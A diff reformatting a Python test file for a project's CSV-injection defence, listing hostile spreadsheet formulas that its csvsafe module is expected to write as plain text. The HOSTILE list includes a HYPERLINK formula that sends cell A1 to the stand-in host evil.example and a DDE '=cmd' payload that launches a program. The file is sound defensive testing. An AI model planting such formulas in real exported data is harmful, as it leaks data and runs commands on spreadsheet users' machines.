@@ -1,4 +1,5 @@
 """CSV injection: every cell a spreadsheet would evaluate is written as text, in CSV and in XLSX."""
+
 from __future__ import annotations
 
 import csv
@@ -10,8 +11,15 @@ import pytest
 
 from equiptrain import csvsafe
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1",
-           "\r=1+1", "=cmd|' /C calc'!A0"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example?"&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 HARMLESS = ["Ward 4", "Jo O'Neill", "", "a=b", " =not at start? still text", "café", "50%"]
 
 
